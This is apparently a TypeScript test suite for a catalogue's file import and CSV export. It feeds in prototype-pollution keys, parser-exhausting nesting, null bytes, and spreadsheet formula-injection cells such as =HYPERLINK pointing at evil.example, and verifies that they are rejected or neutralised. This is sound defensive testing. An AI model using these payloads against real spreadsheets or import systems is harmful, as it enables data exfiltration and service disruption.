import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { after, before, beforeEach, test } from 'node:test';
import { csvRows } from '../../content-api/import/read/csv.ts';
import { product } from '../../content-api/tables.ts';
import { writeRows } from '../../content-api/writing/testing.ts';
import { openTestDatabase, type TestDatabase } from '../../database/testing.ts';
import { type Content, contentOf } from './open-content.ts';
import { exported, importFolder, problemLines } from './testing.ts';

let database: TestDatabase;
let content: Content;
let folder: Awaited<ReturnType<typeof importFolder>>;
before(async () => {
  folder = await importFolder();
  database = await openTestDatabase();
  content = contentOf(database.db);
  await writeRows(database.db, 'types', [{ value: 'Meuble', name: { fr: 'Meuble' }, position: 0 }]);
});
beforeEach(() => database.db.delete(product));
after(async () => {
  await database.close();
  await folder.remove();
});

const imported = async () => (await database.db.select().from(product)).map(({ uid }) => uid).sort();
const inherited = () => Object.getOwnPropertyNames(Object.prototype).sort();
const ofAll = inherited();

const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
/** What stands in a record beside its uid, its heading and its type. */
const hostile = {
  'keys of prototypes': '"__proto__": {"heading": {"fr": "x"}, "polluted": true}',
  'keys of prototypes within': '"heading": {"fr": "x", "__proto__": {"polluted": true}}',
  'keys of constructors': '"constructor": {"prototype": {"polluted": true}}',
  'numbers beyond all': '"width": 1e999',
  'numbers beyond those of the database': '"position": 1e15',
  'numbers of four thousand digits': `"depth": ${'9'.repeat(4_000)}`,
  'lists in lists': `"materials": ${nested(1_000_000)}`,
  'records in records': `"card": ${'{"a":'.repeat(500_000)}1${'}'.repeat(500_000)}`,
  'a character that databases refuse': '"heading": {"fr": "a\\u0000b"}',
  'half a character': '"heading": {"fr": "a\\ud800b"}',
  'a key with a character that databases refuse': '"a\\u0000b": 1',
  'another kind of everything': '"heading": [[]], "productType": {"toString": 1}, "card": "x"',
};

test('whatever stands in one row of a file, it is a problem of that row, and the others come in', async () => {
  const sound = (uid: string) => `"uid": "${uid}", "productType": "Meuble", "heading": {"fr": "Étagère"}`;
  const rows = Object.values(hostile).map((text, index) => `{${sound(`bad-${index}`)}, ${text}}`);
  const file = await folder.write('products.jsonl', [`{${sound('a')}}`, ...rows, `{${sound('z')}}`].join('\n'));
  const report = await folder.import(content, [file], { skipBad: true });
  assert.deepEqual(
    [report.read, report.added, report.bad],
    [rows.length + 2, 2, rows.length],
    String(problemLines(report)),
  );
  assert.deepEqual(await imported(), ['a', 'z']);
  assert.deepEqual(inherited(), ofAll);
});

const words = ['constructor', '__proto__', 'toString', 'hasOwnProperty'];

test('no cell, and no name of a column, means what all objects inherit', async () => {
  const lines = words.map((word, index) => `x-${index},${word},${word},dark,${index}`);
  const table = await folder.write(
    'collections.csv',
    ['id,heading.fr,tailored,colorScheme,position', ...lines, 'a,constructor,oui,dark,1', ''].join('\n'),
  );
  const report = await folder.import(content, [table], { skipBad: true });
  assert.deepEqual([report.added, report.bad], [1, words.length], String(problemLines(report)));
  const wrong = report.problems.filter(({ field }) => field === 'tailored').map(({ message }) => message);
  assert.deepEqual(
    wrong,
    words.map((word) => `must be true or false, is "${word}"`),
  );
  for (const word of words)
    await assert.rejects(folder.import(content, [await folder.write('products.csv', `uid,${word}\na,b\n`)]), {
      code: 'command-wrong',
    });
});

test('a mapping translates what it names alone, and changes no object but its records', async () => {
  const path = await folder.write('katalog.csv', `id,name\n${words.map((word) => `${word},${word}`).join('\n')}\n`);
  const columns = { uid: 'id', 'heading.fr': { column: 'name', values: { known: 'x' }, prefix: 'n ' } };
  const constants = Object.fromEntries(words.map((word) => [`${word}.polluted`, true]));
  const map = { kind: 'products', columns, constants: { productType: 'Meuble' } };
  const report = await folder.import(content, [path], { map });
  assert.deepEqual([report.added, report.bad], [words.length, 0], String(problemLines(report)));
  const headings = (await database.db.select().from(product)).map(({ heading }) => heading.fr);
  assert.deepEqual(headings.sort(), words.map((word) => `n ${word}`).sort());
  await folder.import(content, [path], { map: { ...map, constants }, skipBad: true });
  assert.deepEqual(inherited(), ofAll);
});

test('no cell of an export is a formula, and an import reads what was there', async () => {
  const starts = ['=', '+', '-', '@', "'=", "''@", '\t=', '\r=', '＝', '－'];
  const texts = [...starts.map((start) => `${start}HYPERLINK("https://evil.example/"&A1)`), "'quoted'", '-4,35', '’s'];
  const record = (text: string, index: number) => ({ uid: `p-${index}`, productType: 'Meuble', heading: { fr: text } });
  const file = await folder.write('products.json', JSON.stringify(texts.map(record)));
  assert.equal((await folder.import(content, [file])).added, texts.length);

  const table = await exported(content, 'products', 'csv');
  const marked = Readable.from([table.replaceAll("'", '!')]);
  const cells: string[] = [];
  for await (const row of csvRows(marked, () => {})) if ('cells' in row) cells.push(...row.cells.values());
  assert.ok(cells.length > texts.length);
  for (const cell of cells) assert.match(cell, /^(?:[^=+\-@\t\r＝＋－＠]|-4,35|$)/, cell);

  const before = await database.db.select().from(product);
  const again = await folder.import(content, [await folder.write('products.csv', table)]);
  assert.deepEqual([again.problems, again.changed], [[], 0]);
  assert.equal(before.length, texts.length);
});
